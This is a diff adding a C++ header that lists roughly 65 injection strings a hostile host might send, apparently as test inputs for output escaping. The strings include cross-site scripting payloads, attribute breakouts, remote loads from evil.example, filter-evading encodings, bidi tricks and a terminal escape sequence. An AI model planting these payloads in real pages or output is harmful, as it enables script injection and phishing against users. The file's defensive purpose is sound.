@@ -1,0 +1,81 @@
+#pragma once
+// Texts a hostile host may send as its name, SOFTWARE or reason phrase: markup, scripts, breaking out of attributes,
+// comments, styles, encodings that filters miss, and characters that deceive the eye.
+
+#include <array>
+#include <string_view>
+
+namespace payloads {
+
+using namespace std::string_view_literals;
+
+inline constexpr std::array injections = {
+    "<script>alert(1)</script>"sv,
+    "<SCRIPT>alert(1)</SCRIPT>"sv,
+    "<script src=//evil.example/x.js></script>"sv,
+    "</title><script>alert(1)</script>"sv,
+    "</style><script>alert(1)</script>"sv,
+    "</script><script>alert(1)</script>"sv,
+    "<img src=x onerror=alert(1)>"sv,
+    "<img src=x onerror=alert(1)//"sv,
+    "<svg onload=alert(1)>"sv,
+    "<svg><script>alert(1)</script></svg>"sv,
+    "</svg><script>alert(1)</script>"sv,
+    "</text><a xlink:href=javascript:alert(1)>"sv,
+    "<body onload=alert(1)>"sv,
+    "<iframe src=javascript:alert(1)>"sv,
+    "<iframe srcdoc='<script>alert(1)</script>'>"sv,
+    "<object data=javascript:alert(1)>"sv,
+    "<embed src=//evil.example>"sv,
+    "<link rel=stylesheet href=//evil.example>"sv,
+    "<meta http-equiv=refresh content='0;url=//evil.example'>"sv,
+    "<base href=//evil.example/>"sv,
+    "<form action=//evil.example><input name=x></form>"sv,
+    "<details open ontoggle=alert(1)>"sv,
+    "<video><source onerror=alert(1)>"sv,
+    "<a href=javascript:alert(1)>x</a>"sv,
+    "<math><mi//xlink:href=\"data:x,alert(1)\">"sv,
+    "<input autofocus onfocus=alert(1)>"sv,
+    "<marquee onstart=alert(1)>"sv,
+    "<table background=//evil.example>"sv,
+    "<style>*{background:url(//evil.example)}</style>"sv,
+    "<template><script>alert(1)</script></template>"sv,
+    "\" onmouseover=\"alert(1)"sv,
+    "' onmouseover='alert(1)"sv,
+    "\"><script>alert(1)</script>"sv,
+    "'><script>alert(1)</script>"sv,
+    "\" autofocus onfocus=alert(1) x=\""sv,
+    "` onmouseover=alert(1)"sv,
+    "\" style=\"background:url(//evil.example)"sv,
+    "--><script>alert(1)</script>"sv,
+    "<!--<script>alert(1)//-->"sv,
+    "]]><script>alert(1)</script>"sv,
+    "<![CDATA[<script>alert(1)</script>]]>"sv,
+    "<?xml version=\"1.0\"?><script>alert(1)</script>"sv,
+    "javascript:alert(1)"sv,
+    "data:text/html,<script>alert(1)</script>"sv,
+    "&lt;script&gt;alert(1)&lt;/script&gt;"sv,
+    "&#60;script&#62;alert(1)&#60;/script&#62;"sv,
+    "&#x3c;script&#x3e;"sv,
+    "&"sv,
+    "&amp"sv,
+    "<"sv,
+    ">"sv,
+    "\"\"\"\"\"\"\""sv,
+    "{{constructor.constructor('alert(1)')()}}"sv,
+    "${alert(1)}"sv,
+    "<%= 7*7 %>"sv,
+    "<scr\0ipt>alert(1)</script>"sv,
+    "<script\n>alert(1)</script\n>"sv,
+    "<\x0Cimg\x0Csrc=x\x0Conerror=alert(1)>"sv,
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"sv,
+    "\xC0\xBCscript\xC0\xBE"sv,
+    "\xF0\x80\x80\xBCscript>"sv,
+    "\u202E\u2066>tpircs<"sv,
+    "a\u2028b\u2029c\u200Bd"sv,
+    "\x1B]8;;//evil.example\x1B\\x"sv,
+    "\uFF1Cscript\uFF1E"sv,
+};
+static_assert(injections.size() >= 60);
+
+}  // namespace payloads
